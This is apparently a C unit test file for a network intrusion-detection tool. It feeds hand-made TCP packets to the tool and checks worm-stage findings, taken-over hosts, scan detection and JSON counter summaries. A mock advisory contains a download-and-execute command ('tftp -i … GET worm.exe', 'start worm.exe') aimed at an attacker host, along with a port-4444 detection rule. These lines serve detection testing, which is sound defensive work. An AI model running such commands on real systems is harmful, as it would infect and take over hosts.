// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * The pipeline from frames to findings, with an advisory and packets made by hand.
 */
#include "wire/watch/watch.h"

#include <stdlib.h>
#include <string.h>

#include "test.h"

enum { FRAME_MAX = 512, LINK_ETHERNET = 1 };

static char blaster_path[] = "advisories/worm/advisory.yaml";
static char blaster_id[] = "worm", shell_id[] = "shell", title[] = "Worm", shell_title[] = "shell";
static char get_text[] = "tftp -i {attacker} GET worm.exe", start_text[] = "start worm.exe";
static char *texts[] = {get_text, start_text};
static char rule_text[] =
	"alert tcp any any -> any 4444 (msg:\"worm name\"; content:\"worm.exe\"; sid:7;)\n";
static char rule_name[] = "worm.rules", rule_path[] = "advisories/worm/worm.rules";

static struct ww_rules_text rule_file = {
	.name = rule_name, .path = rule_path, .text = rule_text, .len = sizeof(rule_text) - 1};
static struct ww_stage shell = {
	.at = {12, 5},
	.id = shell_id,
	.title = {.en = shell_title},
	.from = WW_ROLE_ATTACKER,
	.event = WW_STAGE_TEXT,
	.port = {WW_PROTO_TCP, 4444, 4444},
	.texts = texts,
	.n_texts = 2,
	.sets = WW_HOST_TAKEN_OVER,
	.confidence = 0.9,
};
static struct ww_advisory_port port = {.port = {WW_PROTO_TCP, 4444, 4444}};
static const struct ww_advisory advisory = {
	.path = blaster_path,
	.id = blaster_id,
	.title = {.en = title},
	.ports = &port,
	.n_ports = 1,
	.rules = &rule_file,
	.n_rules = 1,
	.stages = &shell,
	.n_stages = 1,
};

/* ---- frames ---- */

struct wire {
	struct ww_watch *watch;
	uint64_t frame;
	int64_t time_us;
	uint16_t ip_id;
	unsigned n_findings[WW_FINDING_KIND_COUNT];
	struct ww_finding last[WW_FINDING_KIND_COUNT];
};

static void put16(uint8_t *to, unsigned value)
{
	to[0] = (uint8_t)(value >> 8);
	to[1] = (uint8_t)value;
}

static void put32(uint8_t *to, uint32_t value)
{
	put16(to, value >> 16);
	put16(to + 2, value & 0xffff);
}

static void send_tcp(struct wire *wire, uint32_t src, uint16_t sport, uint32_t dst, uint16_t dport,
	uint8_t flags, uint32_t seq, uint32_t ack, const char *text)
{
	uint8_t bytes[FRAME_MAX] = {2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 0x08, 0x00, 0x45};
	size_t n = strlen(text);
	assert_true(n <= FRAME_MAX - 54);
	put16(bytes + 16, (unsigned)(40 + n));
	put16(bytes + 18, ++wire->ip_id);
	bytes[22] = 64;
	bytes[23] = WW_PROTO_TCP;
	put32(bytes + 26, src);
	put32(bytes + 30, dst);
	put16(bytes + 34, sport);
	put16(bytes + 36, dport);
	put32(bytes + 38, seq);
	put32(bytes + 42, ack);
	bytes[46] = 0x50;
	bytes[47] = flags;
	memcpy(bytes + 54, text, n);
	wire->time_us += 10000;
	const struct ww_frame frame = {
		.data = bytes,
		.captured = (uint32_t)(54 + n),
		.length = (uint32_t)(54 + n),
		.time_us = wire->time_us,
		.number = ++wire->frame,
		.link_type = LINK_ETHERNET,
	};
	ww_watch_feed(wire->watch, &frame, 1);
}

static void on_finding(void *context, const struct ww_finding *finding)
{
	struct wire *wire = context;
	wire->n_findings[finding->kind]++;
	wire->last[finding->kind] = *finding;
	wire->last[finding->kind].evidence = NULL;
}

static void on_update(void *context, const struct ww_finding *finding)
{
	struct wire *wire = context;
	wire->last[finding->kind] = *finding;
	wire->last[finding->kind].evidence = NULL;
}

static struct ww_plan *plan_of(const struct ww_advisory *of)
{
	struct ww_plan *plan = NULL;
	struct ww_err err = {0};
	assert_int_equal(ww_plan_new(NULL, 0, &plan), 0);
	assert_int_equal(ww_plan_advisory(plan, of, &err), 0);
	assert_int_equal(ww_plan_ready(plan, &err), 0);
	return plan;
}

static void begin(struct wire *wire, struct ww_plan *plan)
{
	const struct ww_watch_sink sink = {wire, on_finding, on_update};
	const struct ww_watch_options options = {0};
	*wire = (struct wire){.time_us = 1000000};
	assert_int_equal(ww_watch_new(plan, &options, &sink, &wire->watch), 0);
}

enum { ATTACKER = 0x0a000001, VICTIM = 0x0a000002 };

/* ---- tests ---- */

static void shell_text_names_the_parent(void **state)
{
	(void)state;
	struct ww_plan *plan = plan_of(&advisory);
	struct wire wire;
	begin(&wire, plan);
	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_SYN, 99, 0, "");
	send_tcp(&wire, VICTIM, 4444, ATTACKER, 1025, WW_TCP_SYN | WW_TCP_ACK, 499, 100, "");
	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 100, 500, "");
	/* The command is split in the middle of the address. */
	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 100, 500, "tftp -i 10.0");
	send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 112, 500, ".0.1 GET worm.exe\n");
	assert_int_equal(ww_watch_finish(wire.watch), 0);

	assert_int_equal(wire.n_findings[WW_FINDING_RULE], 1);
	assert_int_equal(wire.last[WW_FINDING_RULE].sid, 7);
	assert_int_equal(wire.last[WW_FINDING_RULE].frames[0], 5);
	assert_true(wire.n_findings[WW_FINDING_STAGE] >= 1);
	assert_string_equal(wire.last[WW_FINDING_STAGE].why_file, blaster_path);
	assert_int_equal(wire.last[WW_FINDING_STAGE].why_line, 12);

	const struct ww_host *taken = NULL, *host;
	for (size_t i = 0; (host = ww_watch_host(wire.watch, i)); i++)
		if (host->has_parent)
			taken = host;
	assert_non_null(taken);
	assert_int_equal(ww_ip_v4(&taken->ip), VICTIM);
	assert_int_equal(ww_ip_v4(&taken->parent.ip), ATTACKER);
	assert_string_equal(taken->state, "taken_over");
	assert_true(taken->infected);

	struct ww_watch_summary summary;
	ww_watch_summarize(wire.watch, &summary);
	assert_int_equal(summary.packets->packets, 5);
	assert_int_equal(summary.hosts, 2);
	assert_int_equal(summary.flows->flows, 1);
	assert_int_equal(summary.rules.loaded, 1); /* those made from texts are not counted */
	assert_false(ww_watch_lost(&summary));
	ww_watch_free(&wire.watch);
	ww_plan_free(&plan);
}

/* One packet of anybody's making, and what the other side says to it. */
static void one_packet_takes_nobody_over(void **state)
{
	static const struct {
		uint8_t flags; /* 0: nothing */
		uint32_t ack;
		const char *state;
	} rows[] = {
		{0, 0, "attacked"},
		{WW_TCP_RST | WW_TCP_ACK, 131, "attacked"},
		{WW_TCP_ACK, 0x70000000, "attacked"}, /* of something else */
		{WW_TCP_ACK, 131, "taken_over"},
	};
	(void)state;
	for (size_t i = 0; i < WW_N(rows); i++) {
		struct ww_plan *plan = plan_of(&advisory);
		struct wire wire;
		begin(&wire, plan);
		send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 100, 500,
			"tftp -i 10.0.0.1 GET worm.exe\r\n");
		if (rows[i].flags)
			send_tcp(&wire, VICTIM, 4444, ATTACKER, 1025, rows[i].flags, 500,
				rows[i].ack, "");
		assert_int_equal(ww_watch_finish(wire.watch), 0);
		bool taken = strcmp(rows[i].state, "attacked") != 0;
		const struct ww_host *host;
		size_t n = 0;
		for (; (host = ww_watch_host(wire.watch, n)); n++) {
			assert_int_equal(host->infected, taken);
			if (ww_ip_v4(&host->ip) == VICTIM)
				assert_string_equal(host->state, rows[i].state);
		}
		assert_int_equal(n, 2);
		const struct ww_finding *stage = &wire.last[WW_FINDING_STAGE];
		assert_int_equal(strstr(stage->msg, "one direction only") == NULL, taken);
		struct ww_watch_summary summary;
		ww_watch_summarize(wire.watch, &summary);
		assert_int_equal(summary.one_sided, !taken);
		ww_watch_free(&wire.watch);
		ww_plan_free(&plan);
	}
}

static void silent_hosts_show_a_scanner(void **state)
{
	(void)state;
	struct ww_plan *plan = plan_of(&advisory);
	struct wire wire;
	begin(&wire, plan);
	for (uint32_t i = 0; i < 12; i++)
		send_tcp(&wire, ATTACKER, (uint16_t)(2000 + i), VICTIM + i, 445, WW_TCP_SYN, i, 0,
			"");
	assert_int_equal(ww_watch_finish(wire.watch), 0);
	assert_int_equal(wire.n_findings[WW_FINDING_SCAN], 1);
	const struct ww_finding *scan = &wire.last[WW_FINDING_SCAN];
	assert_string_equal(scan->scan, "horizontal");
	assert_int_equal(scan->targets, 12);
	assert_int_equal(scan->hosts, 12);
	assert_int_equal(scan->port, 445);
	assert_null(ww_watch_host(wire.watch, 0));
	ww_watch_free(&wire.watch);
	ww_plan_free(&plan);
}

static void a_bad_stage_text_is_told_with_its_line(void **state)
{
	(void)state;
	static char bad[] = "|0g|";
	char *bad_texts[] = {bad};
	struct ww_stage stage = shell;
	stage.texts = bad_texts;
	stage.n_texts = 1;
	struct ww_advisory broken = advisory;
	broken.stages = &stage;
	struct ww_plan *plan = NULL;
	struct ww_err err = {0};
	assert_int_equal(ww_plan_new(NULL, 0, &plan), 0);
	assert_int_equal(ww_plan_advisory(plan, &broken, &err), -EINVAL);
	assert_int_equal(err.at.line, 12);
	assert_non_null(strstr(err.text, "shell"));
	ww_plan_free(&plan);
}

/* What takes evidence away is a loss and exit code 3; what changes a later judgement is neither. */
static void each_counter_has_its_place(void **state)
{
	(void)state;
	struct ww_packet_counts packets = {0};
	struct ww_flow_counts flows = {0};
	struct ww_watch_summary summary = {.packets = &packets, .flows = &flows};
	const struct ww_watch_input input = {.file = "f", .format = "pcap", .note = ""};
	const struct {
		uint64_t *counter;
		const char *key; /* in the JSON, when it is not 0 */
		bool lost;
	} rows[] = {
		{&flows.evicted_flows, "\"evicted_flows\":1", true},
		{&flows.evicted_streams, "\"evicted_streams\":1", true},
		{&summary.evicted_evidence, "\"evicted_evidence\":1", true},
		{&summary.rules.evicted_counters, "\"evicted_rule_counters\":1", true},
		{&summary.rules.pending_dropped, "\"rule_waits_dropped\":1", true},
		{&summary.rules.transfers_dropped, "\"evicted_transfers\":1", true},
		{&summary.rules.pcre_limits, "\"pcre_limits\":1", true},
		{&summary.rules.verify_limits, "\"rule_tries_limits\":1", true},
		{&flows.evicted_windows, "\"evicted_windows\":1", true},
		{&flows.evicted_early, "\"evicted_early_segments\":1", true},
		{&flows.evicted_fragments, "\"evicted_fragments\":1", true},
		{&flows.urgent, "\"urgent_bytes\":1", false},
		{&flows.stale, "\"stale_segments\":1", false},
		{&flows.forged_ends, "\"forged_ends\":1", false},
		{&flows.resets_refused, "\"resets_refused\":1", false},
		{&summary.apps.evicted, "\"evicted_parsers\":1", true},
		{&summary.apps.dropped, "\"parser_tables_full\":1", true},
		{&summary.apps.cut_heads, "\"cut_heads\":1", false},
		{&summary.apps.cut_bodies, "\"cut_bodies\":1", false},
		{&summary.apps.cut_compressed, "\"cut_compressed\":1", false},
		{&flows.evicted_contacts, "\"forgotten\":1", false},
		{&flows.evicted_attempts, "\"judged_early\":1", false},
		{&flows.undecided, "\"undecided\":1", false},
		{&flows.backscatter, "\"backscatter\":1", false},
		{&flows.unmatched, "\"unmatched\":1", false},
		{&flows.reassembly_gaps, "\"reassembly_gaps\":1", false},
		{&flows.fragments_dropped, "\"fragments_dropped\":1", false},
		{&flows.fragment_conflicts, "\"fragment_conflicts\":1", false},
		{&summary.rules.encrypted, "\"encrypted\":1", false},
		{&summary.sids_given, "\"sids_given\":1", false},
		{&packets.encapsulations[WW_ENCAPSULATION_VXLAN],
			"\"encapsulations\":{\"vxlan\":1}", false},
		{&flows.encapsulations[WW_ENCAPSULATION_MPLS], "\"encapsulations\":{\"mpls\":1}",
			false},
	};
	for (size_t i = 0; i < WW_N(rows); i++) {
		struct ww_buf json = WW_BUF_INIT;
		assert_false(ww_watch_lost(&summary));
		ww_watch_summary_json(&json, &summary, &input);
		assert_null(strstr(ww_buf_text(&json), rows[i].key));
		ww_buf_done(&json);
		*rows[i].counter = 1;
		assert_int_equal(ww_watch_lost(&summary), rows[i].lost);
		ww_watch_summary_json(&json, &summary, &input);
		const char *key = strstr(ww_buf_text(&json), rows[i].key);
		assert_non_null(key);
		if (rows[i].lost) {
			assert_true(key > strstr(ww_buf_text(&json), "\"losses\":{"));
			assert_true(key < strstr(ww_buf_text(&json), "\"scan_test\":{"));
		}
		ww_buf_done(&json);
		*rows[i].counter = 0;
	}
}

static void what_is_not_decoded_is_named(void **state)
{
	struct ww_packet_counts packets = {
		.unsupported = {{WW_NUMBERING_ETHER, 0x88cc, 3}, {WW_NUMBERING_IP, 250, 1}},
		.n_unsupported = 2,
		.unsupported_others = 4,
	};
	struct ww_flow_counts flows = {0};
	struct ww_watch_summary summary = {.packets = &packets, .flows = &flows};
	const struct ww_watch_input input = {.file = "f", .format = "pcap", .note = ""};
	struct ww_buf json = WW_BUF_INIT;
	ww_watch_summary_json(&json, &summary, &input);
	assert_non_null(strstr(ww_buf_text(&json),
		"\"unsupported\":["
		"{\"numbering\":\"ethernet\",\"number\":35020,\"name\":\"LLDP\",\"packets\":3},"
		"{\"numbering\":\"ip\",\"number\":250,\"name\":\"IP protocol 250\",\"packets\":1}],"
		"\"unsupported_others\":4"));
	assert_false(ww_watch_lost(&summary));
	ww_buf_done(&json);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(shell_text_names_the_parent),
		cmocka_unit_test(one_packet_takes_nobody_over),
		cmocka_unit_test(silent_hosts_show_a_scanner),
		cmocka_unit_test(a_bad_stage_text_is_told_with_its_line),
		cmocka_unit_test(each_counter_has_its_place),
		cmocka_unit_test(what_is_not_decoded_is_named),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
